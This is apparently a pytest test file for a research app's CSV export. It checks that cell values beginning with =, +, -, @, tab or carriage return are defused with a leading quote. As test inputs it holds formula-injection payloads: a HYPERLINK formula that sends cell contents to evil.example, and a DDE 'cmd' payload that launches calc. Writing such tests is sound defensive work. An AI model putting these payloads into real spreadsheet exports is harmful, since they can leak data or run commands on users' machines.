"""CSV formula injection: names from imported files never reach a spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from app.formats.codebook_csv import CodeRow, read_codebook_csv, write_codebook_csv
from app.formats.safe_csv import plain_cell, safe_cell
from tests.cli_runner import rapport

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
APP = Path(__file__).resolve().parents[2] / "app"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-0.25", "-0.25"),  # a negative kappa stays a number
        ("+3.5e-2", "+3.5e-2"),
        ("Trust", "Trust"),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_formula_cells_are_defused_and_numbers_kept(value, written) -> None:
    assert safe_cell(value) == written
    if isinstance(value, str):
        assert plain_cell(safe_cell(value)) == value


def test_every_csv_rapport_writes_goes_through_the_safe_writer() -> None:
    offenders = [
        str(path.relative_to(APP))
        for path in APP.rglob("*.py")
        if path.name != "safe_csv.py" and re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text("utf-8"))
    ]
    assert offenders == []


def test_codebook_csv_round_trips_a_hostile_name() -> None:
    data = write_codebook_csv([CodeRow(path=HOSTILE, name=HOSTILE, definition="@risk")])
    assert b"'=HYPERLINK" in data
    assert read_codebook_csv(data, "c.csv")[0].name == HOSTILE


def _cells(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_reports_written_by_the_cli_hold_no_formula(demo_copy: Path, tmp_path: Path) -> None:
    project = demo_copy
    name = '=HYPERLINK("evil",1)'
    assert rapport("add-code", project, name).returncode == 0
    for coder, start in (("Ana", "0"), ("Ben", "100")):
        done = rapport("code", project, "--document", "2", "--code", name, "--start", start, "--end",
                       str(int(start) + 40), "--coder", coder)  # fmt: skip
        assert done.returncode == 0, done.stderr
    outputs = {n: tmp_path / f"{n}.csv" for n in ("table", "disagreements", "compare", "codings")}
    agreement = rapport("agreement", project, "--coders", "Ana", "Ben", "--report", outputs["table"],
                        "--disagreements", outputs["disagreements"])  # fmt: skip
    assert agreement.returncode == 0, agreement.stderr
    assert rapport("compare", project, "--dyad", "D01", "--report", outputs["compare"]).returncode == 0
    assert rapport("export", project, outputs["codings"]).returncode == 0
    for label, path in outputs.items():
        cells = _cells(path)
        assert "'" + name in cells, label
        dangerous = [c for c in cells if c and c[0] in "=+@\t\r-" and not re.fullmatch(r"-[\d.]+", c)]
        assert dangerous == [], (label, dangerous)
